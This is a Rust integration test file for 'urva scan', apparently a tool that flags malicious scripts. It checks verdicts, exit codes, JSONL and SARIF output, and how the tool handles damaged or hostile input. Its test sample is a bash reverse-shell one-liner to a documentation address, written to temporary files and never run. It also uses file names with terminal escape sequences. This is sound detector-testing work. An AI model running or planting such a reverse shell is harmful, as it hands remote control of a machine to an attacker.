//! `urva scan` as people and machines call it. The malicious texts are imitations that name addresses which do not
//! exist; they are written to files of the test's own folder and never run.

#![allow(clippy::expect_used, reason = "a test that cannot be set up must fail")]

mod common;

use common::{check, text};
use serde_json::Value;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

/// Connects a shell to a socket: `bash -i`, redirected, written so that this file is not itself found.
fn reverse_shell() -> Vec<u8> {
    [&b"bash -i >& /dev/"[..], b"tcp/203.0.113.7/4444 0>&1\n"].concat()
}

/// An ordinary small program.
const HARMLESS: &[u8] = br#""""Counts the words of a text."""
import argparse
import collections


def count(text):
    return collections.Counter(text.split())


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("file", type=argparse.FileType())
    for word, number in count(parser.parse_args().file.read()).most_common(10):
        print(f"{number:6} {word}")
"#;

/// Runs `urva scan` in a folder.
fn scan(folder: &Path, args: &[&str]) -> Output {
    scan_of(folder, args, &[])
}

fn scan_of(folder: &Path, args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_urva"))
        .arg("scan")
        .args(args)
        .current_dir(folder)
        .env_clear()
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("urva starts");
    let mut stdin = child.stdin.take().expect("a pipe");
    let input = input.to_vec();
    let feeder = std::thread::spawn(move || stdin.write_all(&input));
    let output = child.wait_with_output().expect("urva ends");
    // Whoever does not read standard input has closed it.
    let _ = feeder.join().expect("the feeder ends");
    output
}

/// The lines of a JSONL output.
#[track_caller]
fn lines(output: &Output) -> Vec<Value> {
    assert_eq!(text(&output.stderr), "", "nothing but the lines");
    text(&output.stdout).lines().map(|line| serde_json::from_str(line).expect("an object a line")).collect()
}

fn folder(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    for (name, bytes) in files {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("folders");
        std::fs::write(path, bytes).expect("written");
    }
    folder
}

fn tar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, name, *bytes).expect("appended");
    }
    builder.into_inner().expect("finished")
}

#[test]
fn a_person_sees_what_was_found_and_how_much_was_looked_at() {
    let bad = reverse_shell();
    let folder = folder(&[("bin/.run", &bad), ("a.py", HARMLESS), ("b.sh", &bad), ("words.txt", b"words\n")]);
    let report = scan(folder.path(), &["."]);
    let parts = [
        "malicious   ./b.sh",
        "connects a shell to a socket (T1059.004 Unix Shell), line 1",
        "2 scripts judged: 1 malicious, 0 suspicious, 1 benign; 2 skipped: not a script",
    ];
    check(&report, 1, &parts, &["MB/s"]);
    assert!(!text(&report.stdout).contains("a.py"), "benign scripts are not shown");
    check(&scan(folder.path(), &["--all", "a.py"]), 0, &["benign      a.py", "1 script judged"], &[]);
    check(&scan(folder.path(), &["bin/.run"]), 1, &["malicious   bin/.run"], &[]);
}

#[test]
fn exit_codes_tell_what_was_found() {
    let bad = reverse_shell();
    let folder = folder(&[("ok.py", HARMLESS), ("bad.sh", &bad)]);
    let code = |args: &[&str]| scan(folder.path(), args).status.code();
    assert_eq!(code(&["ok.py"]), Some(0));
    assert_eq!(code(&["bad.sh"]), Some(1));
    assert_eq!(code(&["absent"]), Some(2));
    assert_eq!(code(&["absent", "bad.sh"]), Some(1), "what was found outweighs what could not be read");
    assert_eq!(code(&["--fail-on", "never", "bad.sh"]), Some(0));
    assert_eq!(code(&["--fail-on", "never", "absent"]), Some(2));
    assert_eq!(code(&["--fail-on", "suspicious", "ok.py"]), Some(0));
    assert_eq!(code(&[]), Some(2));
    assert_eq!(code(&["--threads", "0", "ok.py"]), Some(2));
}

#[test]
fn a_line_of_json_says_all() {
    let bad = reverse_shell();
    let folder = folder(&[("bad.sh", &bad)]);
    let output = scan(folder.path(), &["--format", "jsonl", "bad.sh"]);
    let [line] = &lines(&output)[..] else { panic!("one line") };
    assert_eq!(line["path"], "bad.sh");
    assert_eq!(line["language"], "shell");
    assert_eq!(line["size"], bad.len());
    assert_eq!(line["sha256"], evidence::Sha256::of(&bad).to_string());
    assert_eq!(line["verdict"], "malicious");
    assert_eq!(line["coverage"], "complete");
    assert!(line["score"].as_f64().is_some_and(|score| (0.9..=1.0).contains(&score)), "{line}");
    assert!(line["layers"].is_array() && line["model"].is_string());
    let reason = &line["reasons"][0];
    assert_eq!((&reason["line"], &reason["end_line"]), (&Value::from(1), &Value::from(1)));
    assert_eq!(reason["technique"], "T1059.004");
    assert!(reason["weight"].is_number() && reason["indicator"].is_string() && reason["text"].is_string());
}

#[test]
fn what_a_verdict_could_not_look_at_is_told() {
    let folder = folder(&[
        ("packed.py", b"from pyarmor_runtime import __pyarmor__\n"),
        ("zero.py", b"\0import pyarmor_runtime\n"),
    ]);
    let packed = "a packer's payload, which only its native code can read, was not looked at";
    let output = scan(folder.path(), &["--format", "jsonl", "."]);
    let coverage: Vec<Value> = lines(&output).iter().map(|line| line["coverage"].clone()).collect();
    assert_eq!(coverage, [packed.to_owned(), format!("holds NUL bytes, judged as text; {packed}")]);
    check(&scan(folder.path(), &["--all", "packed.py"]), 0, &[packed], &[]);
}

#[test]
fn standard_input_and_a_forced_language_are_judged() {
    let here = folder(&[]);
    let language = |args: &[&str], input: &[u8]| {
        let output = scan_of(here.path(), &[args, &["--format", "jsonl", "-"]].concat(), input);
        lines(&output)[0]["language"].as_str().map(str::to_owned)
    };
    assert_eq!(language(&[], HARMLESS).as_deref(), Some("python"));
    assert_eq!(language(&[], b"#!/bin/busybox sh\n").as_deref(), Some("shell"));
    assert_eq!(language(&["--language", "shell"], HARMLESS).as_deref(), Some("shell"));
    check(&scan_of(here.path(), &["-"], &reverse_shell()), 1, &["malicious   -"], &[]);
    let archive = tar(&[("in/x.sh", &reverse_shell())]);
    check(&scan_of(here.path(), &["-"], &archive), 1, &["malicious   -!/in/x.sh"], &[]);
}

#[test]
fn each_record_of_a_corpus_gives_one_line_in_its_order() {
    let corpus = concat!(
        "{\"id\":\"a:1\",\"lang\":\"python\",\"path\":\"x.py\",\"text\":\"print(1)\"}\n",
        "{\"id\":\"a:2\",\"lang\":\"bash\",\"path\":\"\",\"text\":\"\"}\n",
        "{\"id\":\"a:3\",\"lang\":\"bash\",\"text\":\"half \\ud800 a pair\"}\n",
        "not a record\n",
        "\n",
        "{\"id\":4,\"text\":\"nul \\u0000 \\u001b[2J\",\"path\":\"\\u202e\",\"other\":[[[{}]]]}\n",
        "{\"id\":\"a:5\",\"lang\":\"python\"}\n",
        "{\"id\":\"a:6\",\"lang\":\"python\",\"text\":\"no line feed\"}",
    );
    let packed = zstd::encode_all(corpus.as_bytes(), 3).expect("compressed");
    let folder = folder(&[("c.jsonl", corpus.as_bytes()), ("c.jsonl.zst", &packed)]);
    for name in ["c.jsonl", "c.jsonl.zst"] {
        let output = scan(folder.path(), &["--format", "jsonl", "--corpus", name]);
        assert_eq!(output.status.code(), Some(2), "two lines are broken");
        let lines = lines(&output);
        let ids: Vec<&str> = lines.iter().map(|line| line["id"].as_str().unwrap_or("-")).collect();
        assert_eq!(ids, ["a:1", "a:2", "a:3", "-", "4", "-", "a:6"]);
        assert_eq!(lines[1]["sha256"], evidence::Sha256::of(b"").to_string());
        assert_eq!(lines[2]["sha256"], evidence::Sha256::of(b"half \xed\xa0\x80 a pair").to_string());
        assert_eq!((&lines[3]["path"], &lines[5]["path"]), (&Value::from(name), &Value::from(name)));
        assert!(lines[3]["error"].as_str().is_some_and(|error| error.starts_with("line 4: is no record")));
        assert_eq!(lines[5]["error"], "line 7: is no record: it has no `text`");
        assert_eq!(lines[4]["path"], "\u{202e}");
        assert!(output.stdout.is_ascii(), "nothing steers a terminal");
    }
}

#[test]
fn a_damaged_corpus_is_read_up_to_the_damage() {
    let record = "{\"id\":\"x\",\"lang\":\"bash\",\"text\":\"echo\"}\n";
    let texts: String =
        (0..5000).map(|at| record.replace("echo", &format!("echo {at} {}", at * 7919))).collect();
    let packed = zstd::encode_all(texts.as_bytes(), 3).expect("compressed");
    let folder = folder(&[("c.jsonl.zst", &packed[..packed.len() / 2])]);
    let output = scan(folder.path(), &["--format", "jsonl", "--corpus", "c.jsonl.zst"]);
    let lines = lines(&output);
    let last = lines.last().expect("a line")["error"].as_str().expect("an error").to_owned();
    assert!(last.starts_with("line ") && last.contains("cannot be read from here on"), "{last}");
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn the_output_does_not_depend_on_threads() {
    let bad = reverse_shell();
    let text = |at: usize| match at % 3 {
        0 => {
            (format!("{:03}.sh", at * 37 % 200), [bad.as_slice(), b"# ", at.to_string().as_bytes()].concat())
        }
        _ => (format!("{:03}.py", at * 37 % 200), HARMLESS.repeat(at % 17)),
    };
    let texts: Vec<(String, Vec<u8>)> = (0..200).map(text).collect();
    let files: Vec<(&str, &[u8])> =
        texts.iter().map(|(name, text)| (name.as_str(), text.as_slice())).collect();
    let folder = folder(&files);
    for format in ["text", "jsonl", "sarif"] {
        let outputs = ["1", "2", "7"].map(|threads| {
            scan(folder.path(), &["--all", "--format", format, "--threads", threads, "."]).stdout
        });
        assert!(outputs[0].len() > 1000);
        assert!(outputs.iter().all(|output| *output == outputs[0]), "{format}");
    }
}

#[test]
fn sarif_is_accepted_by_its_schema() {
    let mut schema: Value =
        serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("the schema is JSON");
    // This pattern has a bracket too many, which strict engines refuse; urva writes no language.
    for owner in ["run", "toolComponent"] {
        if let Some(language) = schema["definitions"][owner]["properties"]["language"].as_object_mut() {
            language.remove("pattern");
        }
    }
    let validator = jsonschema::draft7::new(&schema).expect("the schema compiles");
    let bad = reverse_shell();
    let archive = tar(&[("a b/\u{1b}.sh", &bad)]);
    let here = folder(&[
        ("bad.sh", &bad),
        ("odd name \u{202e}%.sh", &bad),
        ("a.tar", &archive),
        ("ok.py", HARMLESS),
    ]);
    std::os::unix::fs::symlink("loop", here.path().join("loop")).expect("a link");
    for (args, results, unread) in
        [(&["."][..], 3, 0), (&["ok.py"], 0, 0), (&["bad.sh", "loop", "absent"], 1, 2)]
    {
        let output = scan(here.path(), &[&["--format", "sarif"], args].concat());
        let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
        let faults: Vec<String> = validator.iter_errors(&report).map(|fault| fault.to_string()).collect();
        assert_eq!(faults, Vec::<String>::new());
        let run = &report["runs"][0];
        assert_eq!(run["results"].as_array().map(Vec::len), Some(results));
        let invocation = &run["invocations"][0];
        assert_eq!(invocation["toolExecutionNotifications"].as_array().map(Vec::len), Some(unread));
        assert_eq!(invocation["executionSuccessful"], unread == 0);
        for result in run["results"].as_array().expect("results") {
            assert_eq!(result["level"], "error");
            assert_eq!(result["locations"][0]["physicalLocation"]["region"]["startLine"], 1);
            let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
            let rule =
                rules.iter().find(|rule| rule["id"] == result["ruleId"]).expect("the rule is described");
            assert_eq!(rule["helpUri"], "https://attack.mitre.org/techniques/T1059/004/");
        }
    }
    // The check would find a fault.
    assert!(!validator.is_valid(&serde_json::json!({ "version": "2.1.0", "runs": [{}] })));
}

#[test]
fn bad_input_is_reported_and_the_scan_goes_on() {
    let brackets = b"(".repeat(100_000);
    let long_line = b"x = 1; ".repeat(1_500_000);
    let here = folder(&[
        ("empty.py", b""),
        ("one.py", b"x"),
        ("binary.py", b"\x7fELF\0\0\xff\xfe\0"),
        ("brackets.py", &brackets),
        ("line.py", &long_line),
        ("cut.tar.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\xff\x4b"),
        ("z-bad.sh", &reverse_shell()),
    ]);
    let large = std::fs::File::create(here.path().join("large.py")).expect("created");
    large.set_len(100 << 20).expect("sparse");
    std::os::unix::fs::symlink(".", here.path().join("loop")).expect("a link");
    let fifo = Command::new("mkfifo").arg(here.path().join("fifo.py")).status().expect("mkfifo runs");
    assert!(fifo.success());
    let output = scan(here.path(), &["--format", "jsonl", ".", "loop/one.py", "fifo.py", "/dev/null"]);
    assert_eq!(output.status.code(), Some(1));
    let lines = lines(&output);
    let of = |path: &str| lines.iter().find(|line| line["path"] == path).unwrap_or_else(|| panic!("{path}"));
    assert_eq!(of("./empty.py")["size"], 0);
    assert_eq!(of("./one.py")["verdict"], "benign");
    assert_eq!(of("./binary.py")["coverage"], "holds NUL bytes, judged as text");
    assert_eq!(of("./brackets.py")["coverage"], "complete");
    let cut = of("./line.py")["coverage"].as_str().expect("words").to_owned();
    assert_eq!(cut, format!("head and tail only: {} of 10500000 bytes are left out", 10_500_000 - (4 << 20)));
    assert_eq!(of("./large.py")["size"], 100 << 20);
    assert!(of("./cut.tar.gz")["error"].is_string());
    assert!(of("./fifo.py")["error"].as_str().is_some_and(|error| error.starts_with("is a FIFO")));
    assert!(of("/dev/null")["error"].as_str().is_some_and(|error| error.starts_with("is a device")));
    assert_eq!(of("loop/one.py")["size"], 1);
    assert_eq!(of("./z-bad.sh")["verdict"], "malicious");
}

#[test]
fn what_an_attacker_named_is_escaped() {
    let bad = reverse_shell();
    let here = folder(&[("\u{1b}[2J\u{202e}.sh", &bad)]);
    let output = scan(here.path(), &["."]);
    check(&output, 1, &["./\\u{1b}[2J\\u{202e}.sh"], &[]);
    assert!(!text(&output.stdout).contains('\u{1b}'));
    check(&scan(here.path(), &["\u{1b}[2J"]), 2, &[], &["\\u{1b}[2J: cannot be read: No such file"]);
}

#[test]
fn a_wrong_model_file_is_named() {
    let here = folder(&[("m.model", b"no model"), ("a.py", HARMLESS)]);
    check(
        &scan(here.path(), &["--model", "m.model", "a.py"]),
        2,
        &[],
        &["m.model is no model for this urva"],
    );
    check(
        &scan(here.path(), &["--model", "absent", "a.py"]),
        2,
        &[],
        &["cannot read the model absent: No such file"],
    );
    let built_in = concat!(env!("CARGO_MANIFEST_DIR"), "/../../model/urva.model");
    check(&scan(here.path(), &["--model", built_in, "a.py"]), 0, &["1 benign"], &[]);
}

#[test]
fn the_config_of_the_detector_holds_and_options_go_before_it() {
    let here = folder(&[
        ("a.py", HARMLESS),
        ("strict.toml", b"[detector]\nmalicious_threshold = 0.000001\n"),
        ("model.toml", b"[detector]\nmodel = \"m.model\"\n"),
        ("m.model", b"no model"),
        ("broken.toml", b"[detector]\nmodell = 1\n"),
    ]);
    let built_in = concat!(env!("CARGO_MANIFEST_DIR"), "/../../model/urva.model");
    let with = |config, more: &[&str]| {
        scan(here.path(), &[&["--config", config, "--format", "jsonl", "a.py"], more].concat())
    };
    let strict = with("strict.toml", &[]);
    assert_eq!(strict.status.code(), Some(1));
    let [line] = &lines(&strict)[..] else { panic!("one line") };
    assert_eq!(line["verdict"], "malicious");
    assert!(line["threshold"].as_f64().is_some_and(|threshold| threshold < 0.000_002), "{line}");
    let of_config = ["the key detector.model of the config: m.model is no model for this urva"];
    check(&with("model.toml", &[]), 2, &[], &of_config);
    check(&with("model.toml", &["--model", built_in]), 0, &["\"verdict\":\"benign\""], &[]);
    check(&with("strict.toml", &["--model", built_in]), 1, &["malicious"], &[]);
    check(&with("broken.toml", &[]), 2, &[], &["broken.toml, line 2", "modell"]);
    check(&with("absent.toml", &[]), 2, &[], &["the config file absent.toml cannot be read"]);
}

#[test]
fn a_reader_that_leaves_ends_the_scan_quietly() {
    let here = folder(&[("bad.sh", &reverse_shell())]);
    for format in ["text", "jsonl", "sarif"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_urva"))
            .args(["scan", "--all", "--format", format, "bad.sh"])
            .current_dir(here.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("urva starts");
        drop(child.stdout.take());
        let output = child.wait_with_output().expect("urva ends");
        assert!(!text(&output.stderr).contains("roken pipe"), "{format}: {}", text(&output.stderr));
    }
}

#[test]
fn help_has_examples_and_exit_codes() {
    let here = folder(&[]);
    let parts = ["Examples:", "docker save app:1 | urva scan -", "Exit codes: 0", "--max-size <SIZE>"];
    check(&scan(here.path(), &["--help"]), 0, &parts, &[]);
}
